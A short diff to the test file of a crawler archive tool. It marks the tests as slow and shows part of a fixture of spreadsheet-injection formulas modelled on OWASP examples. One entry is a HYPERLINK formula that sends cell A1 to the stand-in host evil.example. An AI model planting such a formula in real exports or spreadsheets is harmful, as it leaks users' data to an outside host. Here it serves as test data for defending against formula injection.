@@ -27,6 +27,8 @@ from crawler.serve.app import build_datasette
 from crawler.serve.mode import choose_mode
 from tests.conftest import ROOT, RunningSite, crawl_sample, run_cli, serve_archive
 
+pytestmark = pytest.mark.slow  # every test reads an archive built by a crawl
+
 #: What the spreadsheet-injection article carries, column by column (OWASP's examples and the issue's).
 FORMULAS = {
     "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Klik di sini")',
